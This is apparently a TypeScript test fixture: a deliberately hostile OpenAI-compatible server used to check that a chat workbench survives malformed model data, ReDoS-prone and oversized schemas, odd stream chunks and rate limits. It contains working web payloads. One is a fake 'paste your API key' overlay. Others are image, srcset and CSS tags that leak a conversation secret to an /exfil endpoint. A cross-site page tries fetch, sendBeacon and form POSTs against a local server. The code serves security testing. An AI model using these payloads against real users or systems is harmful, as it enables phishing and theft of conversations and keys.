// A hostile OpenAI-compatible server for the tests: everything the workbench reads from it is crafted to break,
// blind or rob a careless client — malformed model metadata and prototype-named ids, schemas that freeze a form,
// answers that try to cover the page or make the browser fetch a URL carrying the conversation, absurd choice
// indexes, odd chunks, silence, rate limits. It records what reached it (paths, Authorization headers, image
// fetches) so tests can prove what the browser did NOT send. It also serves a page on its own origin that tries
// to make the Yoke server act (the cross-site case).

import { Hono } from 'hono';

export interface Seen {
  method: string;
  /** The Host the request was addressed to (127.0.0.1:… or localhost:…): two base URLs of one server. */
  host: string;
  path: string;
  authorization: string | null;
}

const SECRET = 'conversation=SECRET';
// Each request's hits are told apart by a token from its last message, so parallel tests do not mix them.
const tokenOf = (body: { messages?: unknown }) => {
  const messages = Array.isArray(body.messages) ? body.messages : [];
  const last = messages.at(-1) as { content?: unknown } | undefined;
  return encodeURIComponent(typeof last?.content === 'string' ? last.content.slice(0, 40) : '');
};

/** Models whose metadata is malformed (the H1 cases). The first is what a first visit selects. */
function malformedModels(): unknown[] {
  return [
    { id: 'display-42', display_name: 42 },
    { id: 'desc-object', description: { text: 'not a string' } },
    { id: 'caps-string', capabilities: { input: 'text' } },
    { id: 'caps-object', capabilities: { input: {} } },
    { id: '__proto__' },
    { id: 'toString' },
    { id: 'hasOwnProperty' },
    { id: 'pricing-strings', pricing: { input_cost_per_token: 'free', output_cost_per_token: {} } },
    { id: 'developer-string', developer: 'Acme' },
    { id: 'summary-list', summary: ['a', 'b'] },
    { id: 42 },
    null,
  ];
}

/** Schemas that froze the page (the M4 cases), by model id. */
export function hostileSchema(id: string): unknown {
  switch (id) {
    case 'enum-100k':
      return {
        type: 'object',
        properties: {
          voice: {
            type: 'string',
            enum: Array.from({ length: 100_000 }, (_, i) => `voice-${i}`),
            default: 'voice-7',
          },
        },
      };
    case 'allof-18':
      return {
        type: 'object',
        properties: {
          mix: {
            allOf: Array.from({ length: 18 }, (_, i) => ({
              anyOf: [
                { properties: { [`a${i}`]: { type: 'string' } } },
                { properties: { [`b${i}`]: { type: 'number' } } },
              ],
            })),
          },
        },
      };
    case 'props-5000':
      return {
        type: 'object',
        properties: Object.fromEntries(
          Array.from({ length: 5_000 }, (_, i) => [`p${i}`, { type: 'number' }]),
        ),
      };
    case 'recursive-root':
      return {
        type: 'object',
        properties: { value: { properties: { foo: { $ref: '#' } }, additionalProperties: false } },
      };
    case 'pattern-redos':
      return {
        type: 'object',
        properties: { slug: { type: 'string', pattern: '^(a|aa)+$', default: `${'a'.repeat(40)}!` } },
      };
    case 'patternprops-redos':
      return {
        type: 'object',
        properties: {
          meta: {
            type: 'object',
            patternProperties: { '^(a+)+$': { type: 'string' } },
            default: { [`${'a'.repeat(40)}!`]: 'x' },
          },
        },
      };
    default:
      return undefined;
  }
}

export const SCHEMA_MODELS = [
  'enum-100k',
  'allof-18',
  'props-5000',
  'recursive-root',
  'pattern-redos',
  'patternprops-redos',
];
export const ANSWER_MODELS = [
  'overlay',
  'exfil',
  'huge-index',
  'odd-chunks',
  'silent',
  'rate-limited',
  'plain',
];

function answerOf(model: string, origin: string, token: string): string {
  switch (model) {
    case 'overlay':
      return [
        'Here is the summary.',
        '',
        '<div style="position:fixed;inset:0;z-index:2147483647;background:#fff">Session expired — paste your API key below to continue.</div>',
        '',
        '<div class="fixed inset-0 z-50 bg-white">Session expired (class overlay)</div>',
      ].join('\n');
    case 'exfil':
      return [
        'Look at this chart:',
        '',
        `![chart](${origin}/exfil/md.png?${SECRET}&t=${token})`,
        '',
        `<img src="${origin}/exfil/img.png?${SECRET}&t=${token}" alt="pixel">`,
        '',
        `<img srcset="${origin}/exfil/srcset.png?${SECRET} 2x">`,
        '',
        `<picture><source srcset="${origin}/exfil/picture.png?${SECRET}"></picture>`,
        '',
        `<video poster="${origin}/exfil/poster.png?${SECRET}"></video>`,
        '',
        `<input type="image" src="${origin}/exfil/input.png?${SECRET}">`,
        '',
        `<table background="${origin}/exfil/table.png?${SECRET}"><tr><td>cell</td></tr></table>`,
        '',
        `<div style="background:url(${origin}/exfil/css.png?${SECRET})">styled</div>`,
      ].join('\n');
    default:
      return 'An ordinary answer from the hostile server.';
  }
}

function chunk(choices: unknown, extra: Record<string, unknown> = {}): string {
  return `data: ${JSON.stringify({ id: 'h', object: 'chat.completion.chunk', created: 0, model: 'h', choices, ...extra })}\n\n`;
}

function sse(parts: string[], holdOpenMs = 0): Response {
  const encoder = new TextEncoder();
  const body = new ReadableStream<Uint8Array>({
    async start(controller) {
      for (const part of parts) controller.enqueue(encoder.encode(part));
      if (holdOpenMs > 0) {
        await new Promise((resolve) => setTimeout(resolve, holdOpenMs));
        controller.enqueue(encoder.encode(chunk([{ index: 0, delta: {}, finish_reason: 'stop' }])));
      }
      controller.enqueue(encoder.encode('data: [DONE]\n\n'));
      controller.close();
    },
  });
  return new Response(body, { headers: { 'content-type': 'text/event-stream', ...CORS } });
}

const CORS = {
  'access-control-allow-origin': '*',
  // A browser reads Retry-After from another origin only when the server exposes it.
  'access-control-expose-headers': 'retry-after',
  'access-control-allow-headers': 'authorization, content-type',
  'access-control-allow-methods': 'GET, POST, OPTIONS',
};

const PNG = Uint8Array.from(
  atob('iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNkYPhfDwAChwGA60e6kgAAAABJRU5ErkJggg=='),
  (c) => c.charCodeAt(0),
);

/** The attack page: from this origin, tries every way a website can make a local server act. */
function attackPage(target: string): string {
  const url = `${target}/__capture/attack/chat/completions`;
  const body = JSON.stringify({
    model: 'plain-demo',
    messages: [{ role: 'user', content: 'from another site' }],
  });
  return `<!doctype html><title>Attack</title><body><form id="f" method="POST" action="${url}" enctype="text/plain" target="sink"><input name='${body.replace(/'/g, '&#39;')}' value=""></form><iframe name="sink"></iframe><script>
(async () => {
  const results = [];
  const body = ${JSON.stringify(body)};
  const tries = {
    'no-cors text/plain': () => fetch(${JSON.stringify(url)}, { method: 'POST', mode: 'no-cors', body }),
    'no-cors json type': () => fetch(${JSON.stringify(url)}, { method: 'POST', mode: 'no-cors', headers: { 'content-type': 'application/json' }, body }),
    'cors json': () => fetch(${JSON.stringify(url)}, { method: 'POST', headers: { 'content-type': 'application/json' }, body }),
    'beacon': async () => navigator.sendBeacon(${JSON.stringify(url)}, body),
    'demo chat': () => fetch(${JSON.stringify(`${target}/demo/api/ai/chat/completions`)}, { method: 'POST', mode: 'no-cors', body }),
    'proxy': () => fetch(${JSON.stringify(`${target}/proxy/oxen/chat/completions`)}, { method: 'POST', mode: 'no-cors', body }),
  };
  for (const [name, run] of Object.entries(tries)) {
    try { const r = await run(); results.push(name + ': sent' + (r && r.status !== undefined ? ' (' + r.type + ' ' + r.status + ')' : '')); }
    catch (e) { results.push(name + ': refused by the browser'); }
  }
  document.getElementById('f').submit();
  await new Promise((r) => setTimeout(r, 500));
  document.body.dataset.done = 'yes';
  document.body.dataset.results = results.join('\\n');
})();
</script></body>`;
}

export interface HostileServer {
  app: Hono;
  seen: Seen[];
  exfilHits: string[];
}

export function hostileServer(opts: { yokeOrigin: string; silenceMs?: number }): HostileServer {
  const app = new Hono();
  const seen: Seen[] = [];
  const exfilHits: string[] = [];
  const silenceMs = opts.silenceMs ?? 20_000;

  app.use('/v1/*', async (c, next) => {
    seen.push({
      method: c.req.method,
      host: c.req.header('host') ?? '',
      path: new URL(c.req.url).pathname,
      authorization: c.req.header('authorization') ?? null,
    });
    await next();
  });
  app.options('/v1/*', () => new Response(null, { status: 204, headers: CORS }));

  app.get('/v1/models', () =>
    Response.json(
      {
        data: [
          ...malformedModels(),
          ...SCHEMA_MODELS.map((id) => ({ id, display_name: `Schema: ${id}` })),
          ...ANSWER_MODELS.map((id) => ({ id, display_name: `Answer: ${id}` })),
        ],
      },
      { headers: CORS },
    ),
  );
  app.get('/v1/models/:id', (c) => {
    const id = c.req.param('id');
    const schema = hostileSchema(id);
    if (schema)
      return Response.json(
        { id, display_name: `Schema: ${id}`, json_request_schema: schema },
        { headers: CORS },
      );
    const entry = malformedModels().find(
      (m) => typeof m === 'object' && m !== null && (m as { id: unknown }).id === id,
    );
    return Response.json(entry ?? { id, display_name: `Answer: ${id}` }, { headers: CORS });
  });

  app.post('/v1/chat/completions', async (c) => {
    const body = (await c.req.json().catch(() => ({}))) as { model?: string; messages?: unknown };
    const model = body.model ?? 'plain';
    const origin = new URL(c.req.url).origin;
    if (model === 'rate-limited') {
      return Response.json(
        { error: { message: 'Rate limit reached for requests', type: 'rate_limit_error' } },
        { status: 429, headers: { ...CORS, 'retry-after': '7' } },
      );
    }
    if (model === 'huge-index') {
      return sse([
        chunk([{ index: 99_999_999, delta: { content: 'far away' }, finish_reason: null }]),
        chunk([{ index: 100_000, delta: { content: 'also far' }, finish_reason: null }]),
        chunk([{ index: 0, delta: { content: 'Only choice 0 is real.' }, finish_reason: 'stop' }]),
      ]);
    }
    if (model === 'odd-chunks') {
      return sse([
        chunk([null]),
        chunk({ not: 'a list' }),
        chunk([{ index: 0, delta: null }]),
        chunk([{ index: 0, delta: { content: { text: 'an object' } } }]),
        chunk([{ index: 0, delta: { content: 'Readable text survives.' }, finish_reason: 'stop' }]),
      ]);
    }
    if (model === 'silent') {
      return sse([chunk([{ index: 0, delta: { content: 'Thinking' }, finish_reason: null }])], silenceMs);
    }
    const answer = answerOf(model, origin, tokenOf(body));
    const pieces = answer.match(/[\s\S]{1,7}/g) ?? [];
    return sse([
      ...pieces.map((text) => chunk([{ index: 0, delta: { content: text }, finish_reason: null }])),
      chunk([{ index: 0, delta: {}, finish_reason: 'stop' }]),
    ]);
  });

  app.get('/exfil/*', (c) => {
    const url = new URL(c.req.url);
    exfilHits.push(`${url.pathname}?t=${url.searchParams.get('t') ?? ''}`);
    return new Response(PNG, {
      headers: { 'content-type': 'image/png', 'access-control-allow-origin': '*' },
    });
  });
  app.get('/__seen', () => Response.json({ seen, exfilHits }));
  app.post('/__reset', () => {
    seen.length = 0;
    exfilHits.length = 0;
    return Response.json({ ok: true });
  });
  app.get(
    '/attack.html',
    () => new Response(attackPage(opts.yokeOrigin), { headers: { 'content-type': 'text/html' } }),
  );
  return { app, seen, exfilHits };
}
